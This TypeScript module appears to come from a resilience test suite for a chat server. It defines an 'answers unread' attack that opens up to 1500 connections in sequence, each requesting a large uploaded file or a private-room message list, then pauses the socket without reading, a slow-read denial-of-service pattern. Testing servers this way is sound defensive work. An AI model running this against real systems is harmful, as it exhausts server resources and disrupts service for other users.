import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { uploadOwnFile } from './own-file.ts';

const maxHeld = 1500;

export const unreadAnswers: Attack = {
  name: 'answers unread',
  does: '1500 connections that request an own file of 8 MB, or a large list, and do not read',
  async run(target) {
    const { attackerHttp, scene, time, note } = target;
    const list = `/api/chat/rooms/${scene.privateRoomId}/messages?limit=100`;
    const file = (await uploadOwnFile(target)) ?? list;
    let held = 0;
    // One after the other: the attack is about unread answers, not about many connections at once.
    while (!time.aborted && held < maxHeld) {
      held += 1;
      const socket = await attackerHttp.dial();
      socket.pause();
      socket.once('close', () => !time.aborted && note('ended by the server'));
      socket.write(attackerHttp.head('GET', held % 2 ? file : list));
      await delay(5);
    }
    note('held', held);
    if (!time.aborted) await new Promise((resolve) => time.addEventListener('abort', resolve));
  },
};
